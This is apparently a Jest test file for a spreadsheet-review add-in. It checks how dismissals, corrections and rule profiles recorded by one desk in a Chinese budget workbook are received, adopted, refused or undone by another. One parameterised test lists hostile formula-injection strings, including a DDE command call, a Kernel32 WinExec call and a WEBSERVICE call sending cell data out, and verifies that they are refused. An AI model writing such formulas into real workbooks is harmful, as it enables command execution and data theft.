import { find, kindsOf, partsOf } from '../review-cases';
import { deskKey, HOUR, ignoredIn, openHost, OURS, pane, put, statesOf, TestClock, THEIRS } from './desks';
import { FIRST_VERSION } from './first-version';

const OWN_PROFILE = {
  id: 'theirs',
  name: '财预〔2020〕10号',
  off: ['operator-typo', 'execution-rate-mismatch'],
};

/** A workbook that another desk has worked on: one finding set aside, one corrected, a profile chosen. */
async function sentByThem() {
  const host = openHost();
  const clock = new TestClock();
  const theirs = pane(host, THEIRS, clock);
  const review = await theirs.review();
  await theirs.ignore([find(review, 'execution-rate-mismatch')], '已与财政局沟通');
  const typo = find(review, 'operator-typo', { row: 3 });
  const change = await theirs.apply(typo, typo.fix!);
  await theirs.chooseProfile(OWN_PROFILE);
  return { host, clock, theirs, change, ours: pane(host, OURS, clock) };
}

describe('what another desk has recorded', () => {
  it('is shown with its content and has no effect', async () => {
    const { ours } = await sentByThem();
    const review = await ours.review();
    expect(new Set(review.findings.map(({ state }) => state))).toEqual(new Set(['open']));
    expect(review.profiles).toMatchObject({ setting: null, effects: null });
    expect(find(review, 'execution-rate-mismatch').receivedDismissal).toEqual({
      reason: '已与财政局沟通',
      desk: THEIRS.id,
    });
    expect(await ours.dismissals()).toEqual([]);
    expect(await ours.changeLog()).toEqual([]);
    expect(await ours.received()).toMatchObject({
      dismissals: [{ finding: 'execution-rate-mismatch!E4!mismatch', received: { desk: THEIRS.id } }],
      changes: [{ rule: 'operator-typo', undone: false, received: { adopted: false } }],
      profiles: [{ name: '财预〔2020〕10号', effects: { off: OWN_PROFILE.off, lowered: [] } }],
      unreadable: [],
      dropped: 0,
    });
  });

  it('counts once it was adopted, kind by kind, and keeps whose it was', async () => {
    const { host, ours, clock } = await sentByThem();
    const left = await ours.adopt('dismissals');
    expect([left.dismissals, left.changes.length, left.profiles.length]).toEqual([[], 1, 1]);
    expect(await ignoredIn(ours)).toEqual(['execution-rate-mismatch!E4!mismatch']);
    expect(await ours.dismissals()).toMatchObject([{ received: { desk: THEIRS.id, adopted: true } }]);
    expect((await ours.recognise()).profiles!.setting).toBeNull();
    await ours.adopt('profiles');
    expect((await ours.recognise()).profiles).toMatchObject({
      setting: OWN_PROFILE,
      effects: { off: OWN_PROFILE.off },
    });
    await ours.adopt('changes');
    expect(await ours.changeLog()).toMatchObject([{ received: { desk: THEIRS.id, adopted: true } }]);
    expect(await pane(host, OURS, clock).received()).toMatchObject({
      dismissals: [],
      changes: [],
      profiles: [],
    });
  });

  it('stays refused, and can still be taken over by a third desk', async () => {
    const { host, ours, clock } = await sentByThem();
    await ours.refuse('dismissals');
    await ours.refuse('profiles');
    const again = pane(host, OURS, clock);
    expect(await again.received()).toMatchObject({ dismissals: [], profiles: [], changes: [{}] });
    expect(await ignoredIn(again)).toEqual([]);
    expect((await pane(host, deskKey(3), clock).received()).dismissals).toHaveLength(1);
  });

  it('that was adopted and then restored does not come up again', async () => {
    const { host, ours, clock } = await sentByThem();
    await ours.adopt('dismissals');
    await ours.restore([find(await ours.review(), 'execution-rate-mismatch')]);
    expect(await ignoredIn(ours)).toEqual([]);
    expect((await pane(host, OURS, clock).received()).dismissals).toEqual([]);
  });

  it('and taken back is not shown', async () => {
    const { host, theirs, ours } = await sentByThem();
    await theirs.restore([find(await theirs.review(), 'execution-rate-as-text')]);
    const [dismissal] = await theirs.dismissals();
    await theirs.lift([dismissal!]);
    expect((await ours.received()).dismissals).toEqual([]);
    expect(await kindsOf(host)).toContain('lift');
  });

  it('is this desk’s after its key was brought here', async () => {
    const { host, clock } = await sentByThem();
    const later = pane(host, THEIRS, clock);
    expect(await later.dismissals()).toMatchObject([{ finding: 'execution-rate-mismatch!E4!mismatch' }]);
    expect(await later.received()).toMatchObject({ dismissals: [], changes: [], profiles: [] });
  });

  it('is left in its part, whoever writes beside it', async () => {
    const { host, ours, theirs } = await sentByThem();
    const [before] = await partsOf(host);
    await ours.ignore([find(await ours.review(), 'execution-rate-as-text')], '已核实');
    expect((await partsOf(host))[0]).toEqual(before);
    expect(await theirs.dismissals()).toHaveLength(1);
  });
});

describe('a received change', () => {
  it('is never taken back with others, only by itself', async () => {
    const { host, ours } = await sentByThem();
    const typo = find(await ours.review(), 'operator-typo', { row: 5 });
    const own = await ours.apply(typo, typo.fix!);
    const [theirs] = (await ours.received()).changes;
    const [first, second] = await ours.undo([theirs!, own]);
    expect([first!.undone, second!.undone]).toEqual([false, true]);
    expect(host.user.cell('附件2', 'F4').value).toBe('≥120次');
    await expect(ours.undo([theirs!, { ...theirs!, id: theirs!.id }])).resolves.toMatchObject([{}, {}]);
    expect(host.user.cell('附件2', 'F4').value).toBe('》120次');
  });

  it('is not taken back in bulk where all are received', async () => {
    const { host, theirs, ours } = await sentByThem();
    const typo = find(await theirs.review(), 'execution-rate-as-text');
    await theirs.apply(typo, typo.fix!);
    const { changes } = await ours.received();
    expect(changes).toHaveLength(2);
    await expect(ours.undo(changes)).rejects.toMatchObject({
      name: 'ReceivedChangeError',
      reason: 'one-by-one',
    });
    await ours.adopt('changes');
    const log = await ours.changeLog();
    await expect(ours.undo(log)).rejects.toMatchObject({ reason: 'one-by-one' });
    expect(host.user.cell('附件2', 'F4').value).toBe('≥120次');
  });

  it.each([
    '=WEBSERVICE("http://example.com/"&A1)',
    '=HYPERLINK("http://example.com","看")',
    '=IMAGE("http://example.com/a.png")',
    "=cmd|'/c calc'!A1",
    "='C:\\temp\\[b.xlsx]Sheet1'!A1",
    '=[1]Sheet1!A1',
    '=RTD("a",,"b")',
    '=CALL("Kernel32","WinExec","JCJ","calc",0)',
    '=INDIRECT("[b.xlsx]S!A1")',
    '=_xlfn.WEBSERVICE("http://example.com")',
    '=其他名称',
  ])('never writes %s', async (formula) => {
    const { host, change, ours } = await sentByThem();
    const cell = change.edits[0]!;
    const forged = { ...change, edits: [{ ...cell, before: { ...cell.before, value: null, formula } }] };
    put(host, { version: 1, dismissals: [], changes: [forged], journal: null });
    const [received] = (await ours.received()).changes;
    await expect(ours.undo([received!])).rejects.toMatchObject({ reason: 'formula' });
    expect(host.user.cell('附件2', 'F4')).toMatchObject({ value: '≥120次', formula: null });
  });

  it('writes a formula that stays in the workbook', async () => {
    const { host, change, ours } = await sentByThem();
    const cell = change.edits[0]!;
    const formula = '=IF(ROUND(\'附件2\'!D4/$C$4,4)>=0.95,"≥120次","")';
    const forged = { ...change, edits: [{ ...cell, before: { ...cell.before, value: null, formula } }] };
    put(host, { version: 1, dismissals: [], changes: [forged], journal: null });
    const [received] = (await ours.received()).changes;
    await ours.undo([received!]);
    expect(host.user.cell('附件2', 'F4').formula).toBe(formula);
  });

  it('leaves a finding of the present review open, whatever it says and whenever', async () => {
    const { host, clock } = await sentByThem();
    const ours = pane(host, OURS, clock);
    const review = await ours.review();
    const changes = review.findings.map((finding, i) => ({
      id: `c${i}`,
      at: '2099-01-01T00:00:00.000Z',
      rule: finding.rule,
      finding: finding.id,
      sheetId: finding.sheetId,
      sheetName: finding.sheetName,
      project: finding.project,
      edits: [],
      undone: false,
    }));
    put(host, { version: 1, dismissals: [], changes, journal: null });
    await ours.adopt('changes');
    expect(new Set(await statesOf(ours))).toEqual(new Set(['open']));
    await expect(ours.mark(review)).resolves.toMatchObject({ markedCells: expect.any(Number) });
  });
});

describe('a received journal', () => {
  it.each(['apply', 'undo'] as const)('of kind %s is as none', async (kind) => {
    const { host, change, ours } = await sentByThem();
    const journal = kind === 'apply' ? { kind, changes: [change] } : { kind, changes: [change.id] };
    put(
      host,
      { version: 1, dismissals: [], changes: [], journal },
      {
        version: 2,
        writer: 'w',
        seen: '2020-01-01T00:00:00.000Z',
        records: [{ id: 'w.1', n: 1, at: change.at, desk: THEIRS.id, kind: 'journal', journal, mac: 'x' }],
      },
    );
    const calls = host.calls.length;
    expect(await ours.changeLog()).toEqual([]);
    expect((await ours.received()).changes).toEqual([]);
    expect(host.calls.slice(calls)).not.toContain('edit');
    await ours.chooseProfile('jinan');
    expect(await ours.changeLog()).toEqual([]);
    expect(await kindsOf(host).catch(() => [])).not.toContain('change');
  });
});

describe('documents of the first version', () => {
  it('mean the same findings, and are received', async () => {
    const host = openHost();
    const ours = pane(host);
    put(host, FIRST_VERSION);
    expect(await ignoredIn(ours)).toEqual([]);
    const said = (await ours.review()).findings.flatMap(({ id, receivedDismissal }) =>
      receivedDismissal ? [[id, receivedDismissal.reason]] : [],
    );
    expect(said).toEqual([
      ['execution-rate-mismatch!E4!mismatch', '口径不同'],
      ['operator-typo!F4!typo', '已核实'],
    ]);
    expect(await ours.received()).toMatchObject({
      changes: [{ finding: 'execution-rate-as-text!E5!text' }],
      profiles: [{ setting: 'jinan', desk: null }],
    });
    await ours.adopt('dismissals');
    expect(await ignoredIn(ours)).toEqual(said.map(([id]) => id));
    host.user.type('附件2', 'E4', { value: 0.91 });
    expect(await ignoredIn(ours)).toEqual(['operator-typo!F4!typo']);
  });

  it('that are adopted hold for nothing that they were not said of', async () => {
    const host = openHost();
    const ours = pane(host);
    put(host, FIRST_VERSION);
    host.user.type('附件2', 'E4', { value: 0.91 });
    await ours.adopt('dismissals');
    expect(await ignoredIn(ours)).toEqual(['operator-typo!F4!typo']);
    expect((await ours.received()).dismissals).toEqual([]);
  });

  it('are left as they are', async () => {
    const host = openHost();
    const clock = new TestClock();
    put(host, FIRST_VERSION);
    const [before] = host.user.customXml;
    const ours = pane(host, OURS, clock);
    await ours.adopt('dismissals');
    clock.pass(2 * HOUR);
    await ours.chooseProfile('jinan');
    expect(host.user.customXml[0]).toBe(before);
  });
});
